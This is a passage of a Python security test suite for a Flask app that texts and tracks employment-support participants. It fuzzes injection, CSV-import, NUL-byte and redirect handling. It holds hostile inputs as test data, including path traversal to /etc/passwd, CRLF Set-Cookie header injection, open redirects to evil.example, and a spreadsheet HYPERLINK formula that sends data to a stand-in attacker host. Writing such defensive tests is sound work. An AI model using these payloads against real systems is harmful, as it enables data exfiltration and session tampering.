                    "specialist_id": st.sampled_from(["1", "2", "3", "4"]),
                    "starts_at": st.sampled_from(STARTS),
                    "kind": st.sampled_from(KINDS),
                    "outcome": st.sampled_from(OUTCOMES),
                    "location": hostile(20),
                },
            ),
            label="form",
        )
    path = route.format(pid=pid, aid=aid)
    before = snapshot(rt, (*DASHBOARD_STATE, AuditLog))
    response = client.get(path) if method == "get" else client.post(path, data={**form, "csrf_token": token})
    assert response.status_code == 404, f"{method.upper()} {path} -> {response.status_code}"
    assert snapshot(rt, (*DASHBOARD_STATE, AuditLog)) == before


# --- 4. template and SQL injection ----------------------------------------------------------------


def test_injection_in_participant_texts_is_kept_and_shown_literally(
    as_user: Any, world: World, phone: Phone, app: Flask
) -> None:
    rt = world.rt
    for payload in INJECTIONS:
        assert phone.text("+447700900101", payload).status_code == 200
    with transaction(rt.engine) as db:
        query = select(Message).where(Message.direction == "in").order_by(col(Message.id))
        bodies = [m.body for m in db.exec(query).all()]
    assert bodies == INJECTIONS
    client, token = signed_in(as_user, world)
    pid = world.ids["P001"]
    page = client.get(f"/participants/{pid}").get_data(as_text=True)
    for payload in INJECTIONS:
        assert str(escape(payload)) in page, f"{payload!r} not shown as text"
    assert app.config["SECRET_KEY"] not in page
    for payload in INJECTIONS:  # the one-off text preview too
        preview = client.post(f"/participants/{pid}/message", data={"csrf_token": token, "body": payload})
        assert preview.status_code == 200
        assert str(escape(payload)) in preview.get_data(as_text=True)
    tables_intact(rt)
    assert count(rt, Participant) == 5


def test_injection_in_a_first_name_is_texted_literally(rt: Runtime, phone: Phone, tmp_path: Path) -> None:
    names = [p for p in INJECTIONS if p.isprintable() and len(p) <= 100]
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["participant_id", "first_name", "phone", "specialist_email"])
    for n, name in enumerate(names):
        writer.writerow([f"Q{n:03d}", name, f"07700900{300 + n}", "sam@example.org"])
    path = tmp_path / "names.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    import_caseload(rt, path, rt.clock.now())
    with transaction(rt.engine) as db:
        stored = {p.external_id: p.first_name for p in db.exec(select(Participant)).all()}
    assert [stored[f"Q{n:03d}"] for n in range(len(names))] == names
    for n, name in enumerate(names):
        assert phone.text(f"+447700900{300 + n}", "hello there").status_code == 200
        with transaction(rt.engine) as db:
            person = db.exec(select(Participant).where(Participant.external_id == f"Q{n:03d}")).one()
            replies = [
                m.body
                for m in db.exec(
                    select(Message).where(Message.participant_id == person.id, Message.direction == "out")
                ).all()
            ]
        assert replies and all(name in body for body in replies), f"{name!r} not texted literally: {replies}"
    tables_intact(rt)


def north(rt: Runtime) -> int:
    with transaction(rt.engine) as db:
        service = db.exec(select(Service).where(Service.slug == "north")).one()
    assert service.id is not None
    return service.id


def new_campaign(
    db: Session,
    service_id: int,
    now: datetime,
    *,
    name: str,
    text: str,
    reply_keyword: str | None = None,
    send_at: datetime | None = None,
) -> Campaign:
    """A campaign to everyone in the service, created by its admin, to go a day after `now` unless `send_at` says."""
    return campaigns.create(
        db,
        service_id=service_id,
        name=name,
        text=text,
        audience={},
        created_by="admin@example.org",
        now=now,
        send_at=send_at or now + timedelta(days=1),
        reply_keyword=reply_keyword,
    )


def literal_render(text: str, values: dict[str, Any]) -> str:
    """What a campaign text must become: merge fields filled, everything else exactly as written."""
    parts = campaigns.MERGE.split(text)
    return "".join(str(values[p]) if i % 2 else p for i, p in enumerate(parts))


def test_injection_as_campaign_text_is_refused_or_sent_literally(world: World) -> None:
    rt = world.rt
    now, service_id = rt.clock.now(), north(rt)
    template_code = [p for p in INJECTIONS if re.search(r"\{[{%#]", p) and p != "{{ first_name }}"]
    for payload in INJECTIONS:
        problems = campaigns.check_text(payload, 2)
        if payload in template_code:
            assert problems, f"template code accepted: {payload!r}"
        else:
            assert problems == [], f"plain text refused: {payload!r} ({problems})"
    created: dict[int, str] = {}
    for payload in INJECTIONS:
        before = snapshot(rt, (Campaign, CampaignRecipient, Participant))
        try:
            with transaction(rt.engine) as db:
                campaign = new_campaign(db, service_id, now, name=payload, text=payload)
                assert campaign.id is not None
                created[campaign.id] = payload
        except campaigns.CampaignError:
            assert payload in template_code
            assert snapshot(rt, (Campaign, CampaignRecipient, Participant)) == before
        else:
            assert payload not in template_code
    campaigns.run_due(rt, now + timedelta(days=1))
    with transaction(rt.engine) as db:
        for campaign_id, payload in created.items():
            stored = db.get(Campaign, campaign_id)
            assert stored is not None and (stored.text, stored.name) == (payload, payload.strip())
            bodies = db.exec(select(Message.body).where(Message.message_key == f"campaign/{campaign_id}")).all()
            assert len(bodies) == 4  # everyone in the north service
            for body in bodies:
                assert body == payload or (payload == "{{ first_name }}" and "{" not in body)
    tables_intact(rt)
    assert count(rt, Participant) == 5


@fuzz(60)
@given(
    text=st.lists(
        st.one_of(
            st.sampled_from(INJECTIONS),
            st.sampled_from(["{{ first_name }}", "{{specialist_name}}", "{{  appointment_time }}", "{{ FIRST_NAME }}"]),
            st.sampled_from(["{", "}", "{{", "}}", "{%", "%}", "{#", "#}", "{{{ first_name }}}"]),
            hostile(20),
        ),
        max_size=6,
    ).map("".join),
    name=st.one_of(st.just("Jobs fair"), hostile(30), long_text(300)),
    keyword=st.one_of(st.none(), st.sampled_from(["YES", "JOBS", "STOP", "help", "Ja"]), hostile(10)),
)
def test_campaign_text_fuzz(world: World, text: str, name: str, keyword: str | None) -> None:
    rt = world.rt
    now, service_id = rt.clock.now(), north(rt)
    # A keyword that grows when upper-cased ('ß' -> 'SS') is pinned by test_a_reply_keyword_that_grows_when_upper_cased.
    assume(keyword is None or len(normalise(keyword)) <= 32)
    before = snapshot(rt, (Campaign, CampaignRecipient, Participant, Message))
    try:
        with transaction(rt.engine) as db:
            campaign = new_campaign(db, service_id, now, name=name, text=text, reply_keyword=keyword)
            sample = campaigns.preview(db, service_id, campaign.text, campaign.audience, now)
            values = {
                p.external_id: campaigns.merge_values(db, p, now)
                for p in db.exec(select(Participant).where(Participant.service_id == service_id)).all()
            }
            stored = (campaign.text, campaign.name, campaign.reply_keyword)
    except campaigns.CampaignError as exc:
        event("refused")
        assert str(exc)
        assert snapshot(rt, (Campaign, CampaignRecipient, Participant, Message)) == before
        return
    assert stored[0] == text and stored[1] == name.strip() and 0 < len(stored[1]) <= 200
    assert stored[2] == (normalise(keyword) if keyword else None)
    rest = campaigns.MERGE.sub("", text)
    assert not any(code in rest for code in ("{{", "{%", "{#")), f"template code accepted: {text!r}"
    for item in sample.sample:
        assert item["body"] == literal_render(text, values[item["participant"]])
    tables_intact(rt)


# --- 5. CSV imports -------------------------------------------------------------------------------

Columns = dict[str, st.SearchStrategy[str]]
PRINTABLE_NASTIES = [p for p in INJECTIONS + FORMULAS if p.isprintable()]
CASELOAD_VALID: Columns = {
    # '{n}' is the row's own number: ids and phones that do not collide unless a test wants them to.
    "participant_id": st.sampled_from(["P{n}", "p-{n}"]),
    "first_name": st.sampled_from(["Alex", "Zoë", "Ōkami", "Mary-Jane", *PRINTABLE_NASTIES]),
    "phone": st.sampled_from(["07700900{n}", "+44 7700 900{n}", "447700900{n}"]),
    "specialist_email": st.sampled_from(["sam.jones@example.org", "NEW@Example.org", "chris.lee@example.org"]),
    "specialist_name": st.sampled_from(["Sam Jones", "", *FORMULAS]),
    "service": st.just("north"),
    "cohort": st.sampled_from(["out_of_work", "in_work", "IN_WORK", ""]),
    "checkin_day": st.sampled_from(["Mon", "tue", "Wednesday", ""]),
    "checkin_time": st.sampled_from(["10:30", "9:05", "１０:３０", ""]),
    "timezone": st.sampled_from(["Europe/London", "UTC", "Europe/Belfast", "America/New_York", ""]),
    "language": st.sampled_from(["en-GB", "cy", ""]),
    "support_start": st.sampled_from(["2026-01-01", "0001-01-01", ""]),
    "support_end": st.sampled_from(["2027-01-01", "9999-12-31", ""]),
    "team": st.sampled_from(["blue", "", "=1+1"]),
    "tags": st.sampled_from(["a;b", ";;", "=1+1;x", ";".join(f"t{n}" for n in range(30)), ""]),
}
CASELOAD_ODD: Columns = {
    "participant_id": st.one_of(st.sampled_from(["P001", "x" * 65, "P\x07"]), hostile(70)),
    "first_name": st.one_of(st.sampled_from(["\t=1+1", "x" * 101, "Al\nex"]), hostile(110)),
    "phone": st.one_of(
        st.sampled_from(["+447700900101", "0044 7700 900201", "+1 202 555 0100", "07700 9OO 2O1", "=1+1"]),
        hostile(30),
    ),
    "specialist_email": st.one_of(
        st.sampled_from(["no-at-sign", "a b@example.org", "x" * 250 + "@e.org"]), hostile(40)
    ),
    "specialist_name": st.one_of(long_text(300), hostile(30)),
    "service": st.one_of(st.sampled_from(["south", "", "=1+1", "s" * 70]), hostile(70)),
    "cohort": st.one_of(st.sampled_from(["retired"]), hostile(20)),
    "checkin_day": st.one_of(st.sampled_from(["Funday", "7"]), hostile(12)),
    "checkin_time": st.one_of(st.sampled_from(ODD_TIMES), hostile(12)),
    "timezone": st.one_of(
        st.sampled_from(
            ["Mars/Olympus", "../../etc/passwd", "/etc/passwd", "Europe/", "zone.tab", "right/UTC", "Europe", "x" * 300]
        ),
        hostile(30),
    ),
    "language": st.one_of(st.just("x" * 17), hostile(20)),
    "support_start": st.one_of(st.sampled_from(["2026-13-01", "9999-12-31", "2026-11-30T10:00"]), hostile(12)),
    "support_end": st.one_of(st.sampled_from(["2025-01-01", "20261130", "2026-W48-1", "0001-01-01"]), hostile(12)),
    "team": hostile(70),
    "tags": hostile(30),
}
APPOINTMENT_VALID: Columns = {
    "appointment_id": st.sampled_from(["A{n}", "appt-{n}"]),
    "participant_id": st.sampled_from(["P001", "P002", "P003", "P005"]),
    "starts_at": st.sampled_from([s.replace("T", " ") for s in FUTURE] + FUTURE),
    "kind": VALID_APPOINTMENT["kind"],
    "duration_minutes": st.sampled_from(["5", "60", "480", "٣٠", ""]),
    "location": st.one_of(st.sampled_from(FORMULAS), anything(40, 1000)),
    "outcome": st.sampled_from(["", "", *OUTCOMES]),
    "with_whom": st.one_of(st.sampled_from(FORMULAS), anything(40, 1000)),
    "service": st.sampled_from(["north", ""]),
}
APPOINTMENT_ODD: Columns = {
    "appointment_id": st.one_of(st.just("A" * 70), hostile(70)),
    "participant_id": st.one_of(st.sampled_from(["P999", "p001"]), hostile(20)),
    "starts_at": st.one_of(st.sampled_from([s.replace("T", " ") for s in STARTS] + STARTS), hostile(25)),
    "kind": ODD_APPOINTMENT["kind"],
    "duration_minutes": ODD_APPOINTMENT["duration_minutes"],
    "location": long_text(5000),
    "outcome": ODD_APPOINTMENT["outcome"],
    "with_whom": long_text(5000),
    "service": hostile(20),
}


@st.composite
def csv_upload(
    draw: st.DrawFn, valid: Columns, odd: Columns, required: tuple[str, ...]
) -> tuple[bytes, list[list[str]] | None]:
    """Raw bytes, or a CSV of good and hostile cells (then perhaps broken): (the file, its rows if intact)."""
    if draw(st.integers(0, 7)) == 0:
        return draw(st.binary(max_size=2000)), None
    known = list(valid)
    if draw(st.integers(0, 5)) > 0:
        header = list(required) + draw(st.lists(st.sampled_from(known), unique=True))
        header = list(draw(st.permutations(header)))
        if draw(st.booleans()):
            header = [draw(st.sampled_from([h, h.upper(), f" {h} "])) for h in header]
        if draw(st.booleans()):
            header.insert(draw(st.integers(0, len(header))), draw(st.one_of(st.just("junk"), hostile(10))))
    else:
        header = draw(st.lists(st.one_of(st.sampled_from([*known, "", "PHONE"]), hostile(10)), max_size=12))

    spoil = draw(st.sampled_from([0, 0, 1, 3, 10]))  # in ten cells

    base = draw(st.integers(200, 990))

    def cell(name: str, n: int) -> str:
        column = name.strip().lower()
        if column not in valid:
            return draw(hostile(30))
        if draw(st.integers(0, 9)) < spoil:
            value = draw(st.one_of(odd[column], hostile(30), long_text(3000)))
            # No '²'-style digits: pinned by test_non_decimal_digits_as_a_duration_are_a_clean_import_error.
            assume(column != "duration_minutes" or not non_decimal_digits(value))
            return value
        return draw(valid[column]).replace("{n}", str(n))

    rows = []
    for number in range(draw(st.sampled_from([1, 1, 2, 3, 5, 0]))):
        row = [cell(h, base + number) for h in header]
        shape = draw(st.sampled_from(["same"] * 6 + ["short", "long", "blank"]))
        if shape == "short":
            row = row[: draw(st.integers(0, len(row)))]
        elif shape == "long":
            row += draw(st.lists(hostile(20), min_size=1, max_size=3))
        elif shape == "blank":
            row = ["  "] * len(header)
        rows.append(row)
    out = io.StringIO()
    writer = csv.writer(
        out,
        quoting=draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL])),
        lineterminator=draw(st.sampled_from(["\r\n", "\n"])),
    )
    writer.writerows([header, *rows])
    text = out.getvalue()
    encoding = draw(st.sampled_from(["utf-8"] * 5 + ["utf-8-sig", "utf-16", "latin-1"]))
    raw = text.encode(encoding, errors="replace")
    damage = draw(st.sampled_from(["none"] * 6 + ["nul", "bytes", "quote"]))
    if damage != "none":
        at = draw(st.integers(0, len(raw)))
        insert = {"nul": b"\x00", "quote": b'"', "bytes": draw(st.binary(min_size=1, max_size=8))}[damage]
        raw = raw[:at] + insert + raw[at:]
    intact = encoding in ("utf-8", "utf-8-sig") and damage == "none"
    return raw, [header, *rows] if intact else None


def records(rows: list[list[str]]) -> list[dict[str, str]]:
    """The rows as the importers read them: headers lower-cased, cells stripped, blank rows skipped."""
    header = [h.strip().lower() for h in rows[0]]
    found = []
    for row in rows[1:]:
        if any(c.strip() for c in row):
            found.append({h: (row[i].strip() if i < len(row) else "") for i, h in enumerate(header)})
    return found


T = TypeVar("T")

CASELOAD_STATE = (Service, Specialist, Participant, DueTask, CampaignRecipient)
APPOINTMENT_STATE = (Appointment, DueTask, FlowSession, Message, Flag, Notification, Participant)


def refused_cleanly(exc: CsvImportError) -> None:
    assert exc.errors and all(isinstance(e, str) and e.strip() for e in exc.errors)


def imported(
    rt: Runtime,
    path: Path,
    upload: tuple[bytes, list[list[str]] | None],
    state: tuple[type[SQLModel], ...],
    run: Callable[[Path], T],
) -> T | None:
    """The upload written to `path` and imported by `run`: what it returns, or None when the file was
    refused, which must be with clear errors and without a change to `state`."""
    raw, rows = upload
    path.write_bytes(raw)
    before = snapshot(rt, state)
    try:
        result = run(path)
        event("imported")
    except CsvImportError as exc:
        event("refused, intact" if rows else "refused, raw or damaged")
        refused_cleanly(exc)
        assert snapshot(rt, state) == before, "a refused import wrote something"
        return None
    return result


PHONE = re.compile(r"\+\d{7,15}")


@fuzz(100)
@given(upload=csv_upload(CASELOAD_VALID, CASELOAD_ODD, CASELOAD_REQUIRED))
def test_caseload_import_fuzz(
    rt: Runtime, caseload_file: Path, tmp_path: Path, upload: tuple[bytes, list[list[str]] | None]
) -> None:
    if count(rt, Participant) == 0:
        import_caseload(rt, caseload_file, rt.clock.now())
    report = imported(
        rt, tmp_path / "upload.csv", upload, CASELOAD_STATE, lambda p: import_caseload(rt, p, rt.clock.now())
    )
    if report is None:
        return
    rows = upload[1]
    with transaction(rt.engine) as db:
        people = db.exec(select(Participant)).all()
        services = {s.id: s.slug for s in db.exec(select(Service)).all()}
        specialists = db.exec(select(Specialist)).all()
    for person in people:
        assert person.first_name.isprintable() and 1 <= len(person.first_name) <= 100
        assert person.external_id.isprintable() and 1 <= len(person.external_id) <= 64
        assert PHONE.fullmatch(person.phone), person.phone
        assert HHMM.fullmatch(person.checkin_time) and person.checkin_day in range(7)
        assert person.cohort in COHORTS and len(person.language) <= 16
        ZoneInfo(person.timezone)
        assert all(isinstance(t, str) and t for t in person.tags) and len(person.tags) <= 20
    for specialist in specialists:
        assert "@" in specialist.email and len(specialist.email) <= 254 and len(specialist.name) <= 200
        assert specialist.team is None or len(specialist.team) <= 64
    assert all(len(slug) <= 64 for slug in services.values())
    if rows is not None:  # every row is there, exactly as written: formulas are kept as text
        found = records(rows)
        assert report.created + report.updated + report.unchanged == len(found)
        by_key = {(services[p.service_id], p.external_id): p for p in people}
        for record in found:
            person = by_key[((record.get("service") or "default")[:64], record["participant_id"])]
            assert person.first_name == record["first_name"]


@fuzz(100)
@given(upload=csv_upload(APPOINTMENT_VALID, APPOINTMENT_ODD, ("appointment_id", "participant_id", "starts_at", "kind")))
def test_appointment_import_fuzz(world: World, tmp_path: Path, upload: tuple[bytes, list[list[str]] | None]) -> None:
    rt = world.rt
    report = imported(
        rt,
        tmp_path / "appointments.csv",
        upload,
        APPOINTMENT_STATE,
        lambda p: import_appointments(rt, p, rt.clock.now()),
    )
    if report is None:
        return
    rows = upload[1]
    with transaction(rt.engine) as db:
        stored = db.exec(select(Appointment)).all()
        people = {p.id: p.external_id for p in db.exec(select(Participant)).all()}
    for appointment in stored:
        assert appointment.kind in KINDS and 5 <= appointment.duration_minutes <= 480
        assert appointment.outcome is None or appointment.outcome in OUTCOMES
        assert len(appointment.location) <= 300 and len(appointment.with_whom) <= 200
        assert 1 <= len(appointment.external_id) <= 64 and appointment.starts_at is not None
    if rows is not None:
        by_key = {(people[a.participant_id], a.external_id): a for a in stored}
        for record in records(rows):
            appointment = by_key[(record["participant_id"], record["appointment_id"][:64])]
            assert appointment.location == record.get("location", "")[:300]
            assert appointment.kind == record["kind"].lower()


def test_oversized_csv_files_are_a_clean_error(rt: Runtime, tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    header = ",".join(CASELOAD_REQUIRED + CASELOAD_OPTIONAL) + "\n"
    path.write_text(header + "P1," + "A" * 200_000 + ",07700900101,sam@example.org\n")  # over csv's field limit
    with pytest.raises(CsvImportError) as field:
        import_caseload(rt, path, rt.clock.now())
    path.write_text(header + "P1,Alex,07700900101,sam@example.org\n" * 150_000)  # over 5 MB
    with pytest.raises(CsvImportError) as size:
        import_caseload(rt, path, rt.clock.now())
    for exc in (field.value, size.value):
        refused_cleanly(exc)
    with pytest.raises(CsvImportError) as rows:
        import_appointments(rt, path, rt.clock.now())
    refused_cleanly(rows.value)
    assert count(rt, Participant) == 0


# --- known defects: each pinned by one input -----------------------------------------------------


@pytest.mark.parametrize("path", ["/participants/{n}/pause", "/flags/{n}/acknowledge"])
def test_a_huge_participant_id_is_404(as_user: Any, world: World, path: str) -> None:
    client, token = signed_in(as_user, world)
    response = client.post(path.format(n=10**20), data={"csrf_token": token})
    assert response.status_code == 404


def test_transfer_to_a_huge_specialist_id_is_refused(as_user: Any, world: World) -> None:
    client, token = signed_in(as_user, world)
    pid = world.ids["P001"]
    before = snapshot(world.rt, DASHBOARD_STATE)
    response, errors, _ = post(
        client, f"/participants/{pid}/transfer", {"csrf_token": token, "specialist_id": str(10**20)}
    )
    assert response.status_code == 302 and errors
    assert snapshot(world.rt, DASHBOARD_STATE) == before


def test_preferences_out_of_reach_are_404_even_when_invalid(as_user: Any, world: World) -> None:
    client, token = signed_in(as_user, world)
    for pid in (world.ids["P003"], 999_999):
        response = client.post(f"/participants/{pid}/preferences", data={"csrf_token": token, "checkin_day": "x"})
        assert response.status_code == 404


def test_two_appointments_added_in_the_same_second(as_user: Any, world: World) -> None:
    client, token = signed_in(as_user, world)
    pid = world.ids["P001"]
    for starts_at in ("2026-12-01T10:00", "2026-12-08T10:00"):
        response = client.post(
            f"/participants/{pid}/appointments", data={"csrf_token": token, "starts_at": starts_at, "kind": "meeting"}
        )
        assert response.status_code == 302
    assert len(appointments_of(world.rt, pid)) == 2


def test_non_decimal_digits_as_a_duration_are_refused(as_user: Any, world: World) -> None:
    client, token = signed_in(as_user, world)
    pid = world.ids["P001"]
    form = {"csrf_token": token, "starts_at": "2026-12-01T10:00", "kind": "meeting", "duration_minutes": "²"}
    before = snapshot(world.rt, DASHBOARD_STATE)
    response, errors, _ = post(client, f"/participants/{pid}/appointments", form)
    assert response.status_code == 302 and errors
    assert snapshot(world.rt, DASHBOARD_STATE) == before


def test_non_decimal_digits_as_a_duration_are_a_clean_import_error(world: World, tmp_path: Path) -> None:
    path = tmp_path / "appointments.csv"
    path.write_text(
        "appointment_id,participant_id,starts_at,kind,duration_minutes\nA1,P001,2026-12-01 10:00,meeting,²\n",
        encoding="utf-8",
    )
    before = snapshot(world.rt)
    with pytest.raises(CsvImportError):
        import_appointments(world.rt, path, world.rt.clock.now())
    assert snapshot(world.rt) == before


def _move_to_new_york(world: World, external_id: str) -> int:
    with transaction(world.rt.engine) as db:
        person = db.exec(select(Participant).where(Participant.external_id == external_id)).one()
        person.timezone = "America/New_York"
        db.add(person)
        assert person.id is not None
        return person.id


def test_a_far_future_appointment_west_of_utc_is_refused(as_user: Any, world: World) -> None:
    pid = _move_to_new_york(world, "P001")
    client, token = signed_in(as_user, world)
    form = {"csrf_token": token, "starts_at": "9999-12-31T23:59", "kind": "meeting"}
    before = snapshot(world.rt, DASHBOARD_STATE)
    response, errors, _ = post(client, f"/participants/{pid}/appointments", form)
    assert response.status_code == 302 and errors
    assert snapshot(world.rt, DASHBOARD_STATE) == before


def test_a_far_future_appointment_west_of_utc_is_a_clean_import_error(world: World, tmp_path: Path) -> None:
    _move_to_new_york(world, "P001")
    path = tmp_path / "appointments.csv"
    path.write_text("appointment_id,participant_id,starts_at,kind\nA1,P001,9999-12-31 23:59,meeting\n")
    with pytest.raises(CsvImportError):
        import_appointments(world.rt, path, world.rt.clock.now())


def test_a_newline_in_back_is_not_a_500(as_user: Any, world: World, phone: Phone) -> None:
    phone.text("+447700900101", "I want to end it all")
    client, token = signed_in(as_user, world)
    with transaction(world.rt.engine) as db:
        flag = db.exec(select(Flag)).first()
    assert flag is not None
    response = client.post(
        f"/flags/{flag.id}/acknowledge", data={"csrf_token": token, "back": "/flags\r\nSet-Cookie: a=b"}
    )
    assert response.status_code == 302 and "\n" not in response.headers["Location"]


def test_a_newline_in_login_next_is_not_a_500(app: Flask, world: World) -> None:
    from .dashboard.conftest import PASSWORD

    client = app.test_client()
    form = {"email": "sam@example.org", "password": PASSWORD, "csrf_token": csrf(client)}
    assert client.post("/login?next=/flags%0D%0ASet-Cookie:%20a=b", data=form).status_code == 302


def test_back_never_redirects_off_the_site(as_user: Any, world: World, phone: Phone) -> None:
    phone.text("+447700900101", "I want to end it all")
    client, token = signed_in(as_user, world)
    with transaction(world.rt.engine) as db:
        flag = db.exec(select(Flag)).first()
    assert flag is not None
    response = client.post(f"/flags/{flag.id}/acknowledge", data={"csrf_token": token, "back": "/\t/evil.example"})
    assert response.status_code == 302
    assert not urlsplit(response.headers["Location"]).netloc, response.headers["Location"]


def test_login_next_never_redirects_off_the_site(app: Flask, world: World) -> None:
    from .dashboard.conftest import PASSWORD

    client = app.test_client()
    form = {"email": "sam@example.org", "password": PASSWORD, "csrf_token": csrf(client)}
    response = client.post("/login?next=/%09/evil.example", data=form)
    assert response.status_code == 302
    assert not urlsplit(response.headers["Location"]).netloc, response.headers["Location"]


def _no_nul_stored(rt: Runtime) -> None:
    assert not [v for v in all_text_stored(rt) if "\x00" in v], "text with NUL stored"


@pytest.mark.parametrize("field", ["Body", "From", "MessageSid"])
def test_nul_in_a_signed_text_is_not_a_500_or_stored(
    rt: Runtime, caseload_file: Path, client: FlaskClient, field: str
) -> None:
    import_caseload(rt, caseload_file, rt.clock.now())
    params = {"MessageSid": "SM" + "d" * 32, "From": "+447700900101", "Body": "hello"}
    params[field] += "\x00x"
    response, _ = twilio_post(client, "/twilio/sms", list(params.items()), "good")
    # The participant's words are kept (without the NUL); a broken sid or sender is refused.
    assert response.status_code == (200 if field == "Body" else 400)
    _no_nul_stored(rt)
    if field == "Body":
        assert "hellox" in all_text_stored(rt)


def test_nul_in_a_status_callback_is_not_a_500_or_stored(rt: Runtime, client: FlaskClient) -> None:
    pairs = [("MessageSid", "SMx"), ("MessageStatus", "failed"), ("ErrorCode", "300\x0006")]
    response, _ = twilio_post(client, "/twilio/status", pairs, "good")
    assert response.status_code in (204, 400)
    _no_nul_stored(rt)


@pytest.mark.parametrize("field", ["flag note", "location"])
def test_nul_in_a_dashboard_field_is_not_a_500_or_stored(as_user: Any, world: World, phone: Phone, field: str) -> None:
    phone.text("+447700900101", "I want to end it all")
    client, token = signed_in(as_user, world)
    pid = world.ids["P001"]
    with transaction(world.rt.engine) as db:
        flag = db.exec(select(Flag)).first()
    assert flag is not None
    path, form = {
        "flag note": (f"/flags/{flag.id}/resolve", {"note": "called\x00them"}),
        "location": (
            f"/participants/{pid}/appointments",
            {"starts_at": "2026-12-01T10:00", "kind": "meeting", "location": "Room\x001"},
        ),
    }[field]
    response = client.post(path, data={**form, "csrf_token": token})
    assert response.status_code in (302, 303, 400)  # refused with a clear error, or kept without the NUL
    _no_nul_stored(world.rt)


@pytest.mark.parametrize("path", ["/login", "/reset"])
def test_nul_in_a_signed_out_email_is_not_a_500(
    app: Flask, world: World, db_url: str, request: pytest.FixtureRequest, path: str
) -> None:
    client = app.test_client()
    response = client.post(path, data={"email": "sam@example.org\x00", "password": "x", "csrf_token": csrf(client)})
    assert response.status_code in (200, 400, 401)


def test_a_reply_keyword_that_grows_when_upper_cased(world: World) -> None:
    rt = world.rt
    now = rt.clock.now()
    try:
        with transaction(rt.engine) as db:
            campaign = new_campaign(
                db, north(rt), now, name="Jobs fair", text="Come to the jobs fair", reply_keyword="ß" * 32
            )
            keyword = campaign.reply_keyword
    except campaigns.CampaignError:
        return
    assert keyword is not None and len(keyword) <= 32


@pytest.mark.parametrize(
    "keyword",
    [
        "JOBS",
        "Straße",
    ],
)
def test_a_reply_with_the_keyword_as_written_is_recognised(world: World, phone: Phone, keyword: str) -> None:
    rt = world.rt
    now = rt.clock.now()
    with transaction(rt.engine) as db:
        campaign = new_campaign(
            db,
            north(rt),
            now,
            name="Jobs fair",
            text="Come to the jobs fair on Friday. Reply " + keyword,
            reply_keyword=keyword,
            send_at=now,
        )
        campaign_id = campaign.id
    campaigns.run_due(rt, now)
    assert phone.text("+447700900101", keyword).status_code == 200
    with transaction(rt.engine) as db:
        recipient = db.exec(
            select(CampaignRecipient).where(
                CampaignRecipient.campaign_id == campaign_id, CampaignRecipient.participant_id == world.ids["P001"]
            )
        ).one()
    assert recipient.status == "replied"


def test_a_formula_never_reaches_a_csv_export(rt: Runtime, tmp_path: Path) -> None:
    path = tmp_path / "caseload.csv"
    evil = '=HYPERLINK("http://evil.example/?x@example.org","report")'
    out = io.StringIO()
    csv.writer(out).writerows(
        [["participant_id", "first_name", "phone", "specialist_email"], ["P1", "Alex", "07700900101", evil]]
    )
    path.write_text(out.getvalue())
    try:
        import_caseload(rt, path, rt.clock.now())
    except CsvImportError:
        return  # refusing it is fine too
    with transaction(rt.engine) as db:
        report = weekly_contact(db, rt.clock.now().date().isoformat(), "Europe/London", select(Participant))
    cells = [c for row in csv.reader(io.StringIO(contact_csv(report))) for c in row]
    assert any("HYPERLINK" in c for c in cells)  # the specialist is in the export, quoted
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], cells
